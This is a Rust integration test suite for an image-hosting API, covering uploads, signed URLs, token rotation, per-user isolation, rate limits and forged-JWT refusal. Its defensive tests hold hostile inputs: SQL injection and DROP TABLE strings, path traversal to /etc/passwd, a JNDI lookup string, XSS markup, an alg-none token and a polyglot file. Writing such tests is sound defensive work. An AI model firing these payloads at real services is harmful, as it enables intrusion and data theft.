//! The metadata API end to end, over HTTP, against real PostgreSQL, Redis and S3.

use base64::Engine as _;
use imgedge::api::ApiSettings;
use imgedge::ratelimit::Quota;
use imgedge_url::{ImageId, Sig, UrlKey};
use serde_json::{Value, json};
use sqlx::PgPool;

use crate::api_support::{JWT_SECRET, Options, TestApp, assert_error};

fn photo(name: &str) -> Vec<u8> {
    let path = format!("{}/testdata/photos/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

#[sqlx::test(migrations = "./migrations")]
async fn register_login_upload_list_get_url_delete(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let token = app.user("ada@example.com").await;

    // Upload a real photo; it is stored as uploaded, its metadata describes it upright.
    let original = photo("oriented-6-gps.jpg");
    let resp = app
        .upload_multipart(&token, "mountains.jpg", original.clone())
        .await;
    assert_eq!(resp.status(), 201);
    let location = resp.headers()["location"]
        .to_str()
        .expect("location")
        .to_owned();
    assert!(resp.headers().contains_key("ratelimit-remaining"));
    let image: Value = resp.json().await.expect("JSON");
    let id = image["id"].as_str().expect("id").to_owned();
    assert_eq!(location, format!("/v1/images/{id}"));
    assert_eq!(image["filename"], "mountains.jpg");
    assert_eq!(image["format"], "jpeg");
    assert_eq!(
        (image["width"].as_u64(), image["height"].as_u64()),
        (Some(800), Some(600))
    );
    assert_eq!(image["bytes"].as_u64(), Some(original.len() as u64));
    assert_eq!(image["blake3"], blake3::hash(&original).to_hex().as_str());
    let stored = app
        .store
        .get(&format!("o/{id}"))
        .await
        .expect("S3")
        .expect("original stored");
    assert_eq!(
        stored.bytes.as_ref(),
        original.as_slice(),
        "stored byte for byte"
    );

    // The URL key is the one the spec derives, and the original's URL is signed with it.
    let image_id: ImageId = id.parse().expect("image id");
    let key = UrlKey::derive(&app.url_secret, &image_id);
    assert_eq!(image["url_key"], key.to_hex());
    let empty_sig = Sig::compute(&key, "");
    assert!(
        image["url"]
            .as_str()
            .expect("url")
            .ends_with(&format!("/i/{id}/{empty_sig}"))
    );

    // List and get.
    let list = app.list(&token).await;
    assert_eq!(list["items"].as_array().map(Vec::len), Some(1));
    assert_eq!(list["items"][0]["id"], id.as_str());
    assert!(list["next_cursor"].is_null());
    let got: Value = app.get(&token, &location).await.json().await.expect("JSON");
    assert_eq!(got, image);

    // Minting: the canonical form of any parameter order, signed with the image's key.
    let resp = app
        .get(
            &token,
            &format!("{location}/url?format=webp&width=400&utm=1"),
        )
        .await;
    assert_eq!(resp.status(), 200);
    let minted: Value = resp.json().await.expect("JSON");
    assert_eq!(minted["canonical_query"], "width=400&format=webp");
    let sig = Sig::compute(&key, "width=400&format=webp").to_string();
    assert_eq!(minted["sig"], sig.as_str());
    assert!(
        minted["url"]
            .as_str()
            .expect("url")
            .ends_with(&format!("/i/{id}/{sig}?width=400&format=webp"))
    );
    assert_error(
        app.get(&token, &format!("{location}/url?width=0")).await,
        400,
        "out_of_range",
    )
    .await;

    // Delete removes the metadata, the original and every variant, and invalidates the CDN.
    app.store
        .put(
            &format!("v/{id}/{sig}"),
            bytes::Bytes::from_static(b"variant"),
            "image/webp",
        )
        .await
        .expect("put a variant");
    let resp = app.delete(&token, &location).await;
    assert_eq!(resp.status(), 204);
    assert_error(app.get(&token, &location).await, 404, "not_found").await;
    assert!(
        app.objects().await.is_empty(),
        "no object left: {:?}",
        app.objects().await
    );
    assert_eq!(*app.invalidated.0.lock().expect("lock"), vec![id.clone()]);
    let list = app.list(&token).await;
    assert_eq!(
        list["items"].as_array().map(Vec::len),
        Some(0),
        "the cached first page was dropped"
    );
    assert_error(app.delete(&token, &location).await, 404, "not_found").await;
}

#[sqlx::test(migrations = "./migrations")]
async fn raw_uploads_and_pagination(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let token = app.user("pages@example.com").await;
    let mut ids = Vec::new();
    for name in [
        "light.jpg",
        "dark.jpg",
        "detail.jpg",
        "light.jpg",
        "dark.jpg",
    ] {
        let resp = app.upload_raw(&token, "image/jpeg", photo(name)).await;
        assert_eq!(resp.status(), 201);
        let body: Value = resp.json().await.expect("JSON");
        assert_eq!(body["filename"], "raw.bin");
        ids.push(body["id"].as_str().expect("id").to_owned());
    }
    ids.reverse();
    let mut seen = Vec::new();
    let mut path = "/v1/images?limit=2".to_owned();
    loop {
        let page: Value = app.get(&token, &path).await.json().await.expect("JSON");
        let items = page["items"].as_array().expect("items");
        assert!(items.len() <= 2);
        seen.extend(
            items
                .iter()
                .map(|i| i["id"].as_str().expect("id").to_owned()),
        );
        match page["next_cursor"].as_str() {
            Some(cursor) => path = format!("/v1/images?limit=2&cursor={cursor}"),
            None => break,
        }
    }
    assert_eq!(seen, ids, "newest first, every image once");
    assert_error(
        app.get(&token, "/v1/images?limit=0").await,
        400,
        "bad_limit",
    )
    .await;
    assert_error(
        app.get(&token, "/v1/images?cursor=garbage").await,
        400,
        "bad_cursor",
    )
    .await;
}

#[sqlx::test(migrations = "./migrations")]
async fn refresh_tokens_rotate_and_reuse_revokes_the_family(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    assert_eq!(app.register("rot@example.com").await.status(), 201);
    let first = app.login("rot@example.com").await;
    assert_eq!(first["token_type"], "Bearer");
    assert_eq!(first["expires_in"], 900);

    let resp = app.refresh(first["refresh_token"].clone()).await;
    assert_eq!(resp.status(), 200);
    let second: Value = resp.json().await.expect("JSON");
    assert_ne!(second["refresh_token"], first["refresh_token"]);
    let me = app
        .get(
            second["access_token"].as_str().expect("token"),
            "/v1/images",
        )
        .await;
    assert_eq!(me.status(), 200, "the new access token works");

    // The first token again: a replay. The whole session is revoked, the newest token too.
    assert_error(
        app.refresh(first["refresh_token"].clone()).await,
        401,
        "refresh_token_reused",
    )
    .await;
    assert_error(
        app.refresh(second["refresh_token"].clone()).await,
        401,
        "refresh_token_reused",
    )
    .await;
    assert_error(
        app.refresh(json!("not-a-token")).await,
        401,
        "invalid_refresh_token",
    )
    .await;
}

/// Two users, Alice with one image: their tokens and the image's path.
async fn alice_with_an_image_and_bob(app: &TestApp) -> (String, String, String) {
    let alice = app.user("alice@example.com").await;
    let bob = app.user("bob@example.com").await;
    let resp = app
        .upload_multipart(&alice, "a.jpg", photo("light.jpg"))
        .await;
    let image: Value = resp.json().await.expect("JSON");
    let path = format!("/v1/images/{}", image["id"].as_str().expect("id"));
    (alice, bob, path)
}

#[sqlx::test(migrations = "./migrations")]
async fn users_cannot_see_or_touch_each_others_images(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let (alice, bob, path) = alice_with_an_image_and_bob(&app).await;

    assert_error(app.get(&bob, &path).await, 404, "not_found").await;
    assert_error(
        app.get(&bob, &format!("{path}/url?width=10")).await,
        404,
        "not_found",
    )
    .await;
    assert_error(app.delete(&bob, &path).await, 404, "not_found").await;
    // An id that does not exist answers the same.
    let missing = format!("/v1/images/{}", uuid::Uuid::new_v4());
    assert_error(app.get(&bob, &missing).await, 404, "not_found").await;
    let list = app.list(&bob).await;
    assert_eq!(list["items"], json!([]));
    // Alice still has everything, in the database and in S3.
    assert_eq!(app.get(&alice, &path).await.status(), 200);
    assert_eq!(app.objects().await.len(), 1);
}

/// The metadata cache is scoped like the query: an image its owner has just read (so its
/// metadata sits in Redis) is still a 404 to anyone else.
#[sqlx::test(migrations = "./migrations")]
async fn a_cached_image_is_still_not_found_for_another_user(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let (alice, bob, path) = alice_with_an_image_and_bob(&app).await;
    for _ in 0..2 {
        assert_eq!(
            app.get(&alice, &path).await.status(),
            200,
            "cached by its owner"
        );
    }
    assert_error(app.get(&bob, &path).await, 404, "not_found").await;
    assert_error(
        app.get(&bob, &format!("{path}/url?width=10")).await,
        404,
        "not_found",
    )
    .await;
    assert_error(app.delete(&bob, &path).await, 404, "not_found").await;
    assert_eq!(app.get(&alice, &path).await.status(), 200);
}

/// Rate limits are per user: one user past theirs leaves another's untouched.
#[sqlx::test(migrations = "./migrations")]
async fn one_users_exhausted_limit_leaves_anothers_intact(pool: PgPool) {
    let mut settings = ApiSettings::default();
    settings.quotas.read = Quota::per_minute(1, 2);
    let app = TestApp::spawn_with(
        pool,
        Options {
            settings,
            ..Options::default()
        },
    )
    .await;
    let alice = app.user("alice@example.com").await;
    let bob = app.user("bob@example.com").await;
    for _ in 0..2 {
        assert_eq!(app.get(&alice, "/v1/images").await.status(), 200);
    }
    assert_error(app.get(&alice, "/v1/images").await, 429, "rate_limited").await;
    for _ in 0..2 {
        assert_eq!(
            app.get(&bob, "/v1/images").await.status(),
            200,
            "bob's own budget"
        );
    }
}

/// A PNG whose header claims `width`×`height`, with valid chunk CRCs but almost no data.
fn png_claiming(width: u32, height: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: [u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let start = out.len();
        out.extend_from_slice(&kind);
        out.extend_from_slice(data);
        let crc = crc32fast::hash(&out[start..]);
        out.extend_from_slice(&crc.to_be_bytes());
    }
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&width.to_be_bytes());
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(&mut png, *b"IHDR", &ihdr);
    chunk(
        &mut png,
        *b"IDAT",
        &[0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01],
    );
    chunk(&mut png, *b"IEND", &[]);
    png
}

#[sqlx::test(migrations = "./migrations")]
async fn bad_uploads_are_refused_and_nothing_is_stored(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let token = app.user("bad@example.com").await;
    let jpeg = photo("light.jpg");
    let mut polyglot = jpeg.clone();
    polyglot.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0secret.txt PK\x05\x06\0\0\0\0\x01\0");
    let svg = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>".to_vec();
    let pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n".to_vec();
    let html = b"<!doctype html><html><body><img src=x onerror=alert(1)></body></html>".to_vec();
    let cases: Vec<(&str, Vec<u8>, u16, &str)> = vec![
        ("zero bytes", Vec::new(), 400, "empty_file"),
        ("26 MiB", vec![0xff; 26 * 1024 * 1024], 413, "too_large"),
        (
            "truncated JPEG",
            jpeg[..jpeg.len() / 2].to_vec(),
            422,
            "corrupt_image",
        ),
        ("SVG as JPEG", svg, 415, "unsupported_format"),
        ("PDF as JPEG", pdf, 415, "unsupported_format"),
        ("HTML as JPEG", html, 415, "unsupported_format"),
        ("JPEG+ZIP polyglot", polyglot, 415, "unsupported_format"),
        (
            "PNG declaring 20000x20000",
            png_claiming(20_000, 20_000),
            422,
            "too_many_pixels",
        ),
    ];
    for (what, bytes, status, code) in cases {
        for multipart in [false, true] {
            let resp = if multipart {
                app.upload_multipart(&token, "x.jpg", bytes.clone()).await
            } else {
                app.upload_raw(&token, "image/jpeg", bytes.clone()).await
            };
            assert_eq!(
                resp.status().as_u16(),
                status,
                "{what} (multipart: {multipart})"
            );
            assert_error(resp, status, code).await;
        }
    }
    assert!(app.objects().await.is_empty(), "nothing in S3");
    let list = app.list(&token).await;
    assert_eq!(list["items"], json!([]), "nothing in PostgreSQL");

    let resp = app.upload_raw(&token, "text/plain", b"hi".to_vec()).await;
    assert_error(resp, 415, "unsupported_media_type").await;
}

#[sqlx::test(migrations = "./migrations")]
async fn the_upload_form_is_one_file_field(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let token = app.user("form@example.com").await;
    // Another field, beside `file` or instead of it, or two files: refused whole, nothing
    // kept. So is a form with no field at all.
    let part = || reqwest::multipart::Part::bytes(photo("dark.jpg")).file_name("a.jpg");
    let forms = [
        (
            reqwest::multipart::Form::new().text("title", "no file"),
            "unexpected_field",
        ),
        (
            reqwest::multipart::Form::new()
                .part("file", part())
                .text("title", "a cat"),
            "unexpected_field",
        ),
        (
            reqwest::multipart::Form::new()
                .part("file", part())
                .part("file", part()),
            "unexpected_field",
        ),
    ];
    for (form, code) in forms {
        let resp = app
            .http
            .post(app.url("/v1/images"))
            .bearer_auth(&token)
            .multipart(form)
            .send()
            .await
            .expect("request");
        assert_error(resp, 400, code).await;
    }
    let empty = b"--b--\r\n".to_vec();
    let resp = app
        .upload_raw(&token, "multipart/form-data; boundary=b", empty)
        .await;
    assert_error(resp, 400, "missing_file").await;
    assert!(app.objects().await.is_empty(), "nothing in S3");
}

#[sqlx::test(migrations = "./migrations")]
async fn bad_json_and_bad_credentials(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    assert_eq!(app.register("dup@example.com").await.status(), 201);
    let cases = [
        ("/v1/auth/register", r#"{"email": "#, 400, "bad_json"),
        ("/v1/auth/register", r#"{"email": 5}"#, 400, "bad_json"),
        (
            "/v1/auth/register",
            r#"{"email":"x@example.com","password":"short"}"#,
            400,
            "invalid_password",
        ),
        (
            "/v1/auth/register",
            r#"{"email":"nope","password":"long enough pw"}"#,
            400,
            "invalid_email",
        ),
        (
            "/v1/auth/login",
            r#"{"email":"dup@example.com","password":"wrong password!"}"#,
            401,
            "invalid_credentials",
        ),
        (
            "/v1/auth/login",
            r#"{"email":"ghost@example.com","password":"wrong password!"}"#,
            401,
            "invalid_credentials",
        ),
    ];
    for (path, body, status, code) in cases {
        let resp = app
            .http
            .post(app.url(path))
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .expect("request");
        assert_error(resp, status, code).await;
    }
}

fn b64(value: &Value) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(value.to_string())
}

fn signed(header: &Value, claims: &Value, secret: &[u8]) -> String {
    let key = jsonwebtoken::EncodingKey::from_secret(secret);
    let header: jsonwebtoken::Header = serde_json::from_value(header.clone()).expect("header");
    jsonwebtoken::encode(&header, claims, &key).expect("sign")
}

#[sqlx::test(migrations = "./migrations")]
async fn forged_and_defective_tokens_are_refused(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let real = app.user("tok@example.com").await;
    let me: Value = app.get(&real, "/v1/me").await.json().await.expect("JSON");
    let user = me["id"].as_str().expect("id").to_owned();
    let now = jsonwebtoken::get_current_timestamp();
    let claims = |exp: u64| json!({ "sub": user, "iss": "imgedge", "aud": "imgedge-api", "iat": now, "exp": exp });
    let header = json!({ "alg": "HS256", "typ": "JWT", "kid": "test" });
    let mut no_aud = claims(now + 600);
    no_aud.as_object_mut().expect("object").remove("aud");
    let alg_none = format!(
        "{}.{}.",
        b64(&json!({ "alg": "none", "typ": "JWT", "kid": "test" })),
        b64(&claims(now + 600))
    );
    let tokens = [
        ("alg none", alg_none),
        ("another key", signed(&header, &claims(now + 600), &[7; 32])),
        ("expired", signed(&header, &claims(now - 3600), &JWT_SECRET)),
        ("no aud", signed(&header, &no_aud, &JWT_SECRET)),
        (
            "unknown kid",
            signed(
                &json!({ "alg": "HS256", "kid": "other" }),
                &claims(now + 600),
                &JWT_SECRET,
            ),
        ),
        (
            "no kid",
            signed(&json!({ "alg": "HS256" }), &claims(now + 600), &JWT_SECRET),
        ),
        ("garbage", "abc.def.ghi".to_owned()),
        (
            "no such account",
            signed(
                &header,
                &json!({ "sub": uuid::Uuid::new_v4(), "iss": "imgedge", "aud": "imgedge-api", "iat": now, "exp": now + 600 }),
                &JWT_SECRET,
            ),
        ),
    ];
    // The same claims signed properly work: the refusals below are about the defects.
    assert_eq!(
        app.get(
            &signed(&header, &claims(now + 600), &JWT_SECRET),
            "/v1/images"
        )
        .await
        .status(),
        200
    );
    assert_eq!(app.get(&real, "/v1/images").await.status(), 200);
    for (what, token) in tokens {
        let resp = app.get(&token, "/v1/images").await;
        assert_eq!(resp.status(), 401, "{what}");
        assert_eq!(resp.headers()["www-authenticate"], "Bearer");
        assert_error(resp, 401, "unauthorized").await;
    }
    let resp = app
        .http
        .get(app.url("/v1/images"))
        .send()
        .await
        .expect("request");
    assert_error(resp, 401, "unauthorized").await;
}

#[sqlx::test(migrations = "./migrations")]
async fn a_redis_outage_slows_nothing_down_to_failure(pool: PgPool) {
    // Nothing listens on port 1: every Redis call fails at once.
    let options = Options {
        redis_url: "redis://127.0.0.1:1".into(),
        ..Options::default()
    };
    let app = TestApp::spawn_with(pool, options).await;
    let token = app.user("noredis@example.com").await;
    let resp = app
        .upload_multipart(&token, "a.jpg", photo("dark.jpg"))
        .await;
    assert_eq!(resp.status(), 201);
    let image: Value = resp.json().await.expect("JSON");
    let path = format!("/v1/images/{}", image["id"].as_str().expect("id"));
    for _ in 0..3 {
        assert_eq!(app.get(&token, &path).await.status(), 200);
        assert_eq!(app.get(&token, "/v1/images").await.status(), 200);
    }
    assert_eq!(
        app.get(&token, &format!("{path}/url?width=100"))
            .await
            .status(),
        200
    );
    assert_eq!(app.delete(&token, &path).await.status(), 204);
    let ready: Value = app
        .http
        .get(app.url("/readyz"))
        .send()
        .await
        .expect("request")
        .json()
        .await
        .expect("JSON");
    assert_eq!(ready["status"], "ready");
    assert_eq!(ready["redis"], "degraded");
}

#[sqlx::test(migrations = "./migrations")]
async fn uploads_past_the_rate_limit_get_429_with_retry_after(pool: PgPool) {
    let mut settings = ApiSettings::default();
    settings.quotas.upload = Quota {
        per_period: 1,
        period: std::time::Duration::from_mins(1),
        burst: 2,
    };
    let app = TestApp::spawn_with(
        pool,
        Options {
            settings,
            ..Options::default()
        },
    )
    .await;
    let token = app.user("busy@example.com").await;
    for _ in 0..2 {
        assert_eq!(
            app.upload_multipart(&token, "a.jpg", photo("dark.jpg"))
                .await
                .status(),
            201
        );
    }
    let resp = app
        .upload_multipart(&token, "a.jpg", photo("dark.jpg"))
        .await;
    assert_eq!(resp.status(), 429);
    let retry: u64 = resp.headers()["retry-after"]
        .to_str()
        .expect("ascii")
        .parse()
        .expect("seconds");
    assert!((1..=60).contains(&retry), "retry-after {retry}");
    assert_eq!(resp.headers()["ratelimit-remaining"], "0");
    assert_error(resp, 429, "rate_limited").await;
}

/// The typed TypeScript client is generated from a committed copy of the document; this
/// keeps the copy the API's. `IMGEDGE_BLESS=1` rewrites it (then `npm run generate` in
/// `packages/api-client` regenerates the client's types from it).
#[test]
fn the_typed_clients_openapi_document_is_the_apis() {
    let path =
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("packages/api-client/openapi.json");
    let current =
        serde_json::to_string_pretty(imgedge::api::openapi_document()).expect("serialises") + "\n";
    if std::env::var_os("IMGEDGE_BLESS").is_some() {
        std::fs::write(&path, &current).expect("written");
    }
    let committed = std::fs::read_to_string(&path).expect("packages/api-client/openapi.json");
    assert!(
        committed == current,
        "packages/api-client/openapi.json is not the API's document: run \
         `IMGEDGE_BLESS=1 cargo test --test it -- api::the_typed` and `npm run generate` in \
         packages/api-client"
    );
}

#[sqlx::test(migrations = "./migrations")]
async fn openapi_health_and_metrics(pool: PgPool) {
    let app = TestApp::spawn(pool).await;
    let doc: Value = app
        .http
        .get(app.url("/v1/openapi.json"))
        .send()
        .await
        .expect("request")
        .json()
        .await
        .expect("JSON");
    assert!(
        doc["openapi"].as_str().is_some_and(|v| v.starts_with("3.")),
        "OpenAPI 3: {}",
        doc["openapi"]
    );
    for (path, method) in [
        ("/v1/auth/register", "post"),
        ("/v1/auth/login", "post"),
        ("/v1/auth/refresh", "post"),
        ("/v1/images", "post"),
        ("/v1/images", "get"),
        ("/v1/images/{id}", "get"),
        ("/v1/images/{id}", "delete"),
        ("/v1/images/{id}/url", "get"),
    ] {
        assert!(
            doc["paths"][path][method].is_object(),
            "{method} {path} documented"
        );
    }
    // The document describes the public base URL; the operator's endpoints are not there.
    for path in ["/healthz", "/readyz", "/metrics"] {
        assert!(doc["paths"][path].is_null(), "{path} is not public");
    }
    assert!(doc["components"]["securitySchemes"]["bearer"].is_object());
    // Links in the specification's spelling, so tools can follow upload → get → delete.
    assert_eq!(
        doc["paths"]["/v1/images"]["post"]["responses"]["201"]["links"]["GetImage"]["operationId"],
        "get"
    );

    let health = app
        .http
        .get(app.url("/healthz"))
        .send()
        .await
        .expect("request");
    assert_eq!(health.status(), 200);
    let ready: Value = app
        .http
        .get(app.url("/readyz"))
        .send()
        .await
        .expect("request")
        .json()
        .await
        .expect("JSON");
    assert_eq!(
        (
            ready["postgres"].as_str(),
            ready["s3"].as_str(),
            ready["redis"].as_str()
        ),
        (Some("ok"), Some("ok"), Some("ok"))
    );
    let token = app.user("metrics@example.com").await;
    assert_eq!(
        app.upload_multipart(&token, "a.jpg", photo("dark.jpg"))
            .await
            .status(),
        201
    );
    let text = app
        .http
        .get(app.url("/metrics"))
        .send()
        .await
        .expect("request")
        .text()
        .await
        .expect("text");
    assert!(text.contains("imgedge_uploads_total"), "{text}");
    let resp = app
        .http
        .get(app.url("/nope"))
        .send()
        .await
        .expect("request");
    assert_error(resp, 404, "not_found").await;
}

/// Strings an attacker tries in every field and path segment: SQL injection, path
/// traversal (plain and encoded), NUL bytes, markup, and sheer length.
const HOSTILE_STRINGS: [&str; 10] = [
    "' OR '1'='1",
    "x'; DROP TABLE images; --",
    "1 UNION SELECT password_hash FROM users --",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "a%00b",
    "<script>alert(1)</script>",
    "${jndi:ldap://x/a}",
    "%s%s%s%n",
];

/// A refusal, not a crash, and nothing from inside: no SQL, no file contents, no stack.
async fn assert_refused_cleanly(resp: reqwest::Response, what: &str) {
    let status = resp.status().as_u16();
    let body = resp.text().await.expect("body");
    assert!((400..500).contains(&status), "{what}: {status} {body}");
    let json: Value = serde_json::from_str(&body).unwrap_or_else(|_| panic!("{what}: {body}"));
    assert!(
        json["error"].as_str().is_some_and(|c| !c.is_empty()),
        "{what}: {body}"
    );
    let lower = body.to_lowercase();
    for leak in [
        "sqlx",
        "postgres",
        "syntax error",
        "root:x:",
        "panicked",
        "[extensions]",
    ] {
        assert!(!lower.contains(leak), "{what} leaked {leak:?}: {body}");
    }
}

#[sqlx::test(migrations = "./migrations")]
async fn injection_and_traversal_strings_are_refused_everywhere(pool: PgPool) {
    let app = TestApp::spawn(pool.clone()).await;
    let token = app.user("owner@example.com").await;
    let image: Value = app
        .upload_raw(&token, "image/jpeg", photo("light.jpg"))
        .await
        .json()
        .await
        .expect("JSON");
    let id = image["id"].as_str().expect("id").to_owned();
    let long = "A".repeat(10_000);
    let mut strings: Vec<&str> = HOSTILE_STRINGS.to_vec();
    strings.push(&long);
    for s in strings {
        let what = |place: &str| format!("{place} = {s:?}");
        let enc = |v: &str| url_escape(v);
        // JSON fields of the auth endpoints.
        for (path, body) in [
            (
                "/v1/auth/register",
                json!({ "email": s, "password": "a long enough password" }),
            ),
            (
                "/v1/auth/register",
                json!({ "email": "ok@example.com", "password": s }),
            ),
            ("/v1/auth/login", json!({ "email": s, "password": s })),
            ("/v1/auth/refresh", json!({ "refresh_token": s })),
        ] {
            let resp = app
                .http
                .post(app.url(path))
                .json(&body)
                .send()
                .await
                .expect("post");
            if resp.status() == 201 {
                // A long password is a password; anything else accepted would be a bug.
                assert_eq!(body["email"], "ok@example.com", "{}", what(path));
                continue;
            }
            assert_refused_cleanly(resp, &what(path)).await;
        }
        // Path segments and query values of the image endpoints.
        let segment = enc(s);
        for path in [
            format!("/v1/images/{segment}"),
            format!("/v1/images/{segment}/url?width=100"),
            format!("/v1/images/{id}/url?width={segment}"),
            format!("/v1/images/{id}/url?format={segment}"),
            format!("/v1/images/{id}/url?watermarkText=ok&blur={segment}"),
            format!("/v1/images?cursor={segment}"),
            format!("/v1/images?limit={segment}"),
        ] {
            assert_refused_cleanly(app.get(&token, &path).await, &what(&path)).await;
        }
        let path = format!("/v1/images/{segment}");
        assert_refused_cleanly(app.delete(&token, &path).await, &what("DELETE")).await;
        // The filename of an upload is data: stored as given (cleaned), never a path.
        let resp = app
            .http
            .post(app.url(&format!("/v1/images?filename={segment}")))
            .bearer_auth(&token)
            .header("content-type", "image/jpeg")
            .body(photo("dark.jpg"))
            .send()
            .await
            .expect("upload");
        if resp.status() == 201 {
            let stored: Value = resp.json().await.expect("JSON");
            let name = stored["filename"].as_str().unwrap_or_default();
            assert!(
                !name.contains('/') && !name.contains('\\'),
                "{}: {name:?}",
                what("filename")
            );
            let path = format!("/v1/images/{}", stored["id"].as_str().expect("id"));
            assert_eq!(app.delete(&token, &path).await.status(), 204);
        } else {
            assert_refused_cleanly(resp, &what("filename")).await;
        }
    }
    // Everything is where it was: the tables, the one image, its owner.
    let users: i64 = sqlx::query_scalar("SELECT count(*) FROM users")
        .fetch_one(&pool)
        .await
        .expect("users table");
    assert!(users >= 1);
    let list = app.list(&token).await;
    assert_eq!(list["items"].as_array().map(Vec::len), Some(1), "{list}");
    assert_eq!(list["items"][0]["id"], id.as_str());
}

/// Percent-encodes everything but unreserved characters, so the string arrives as given.
fn url_escape(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}
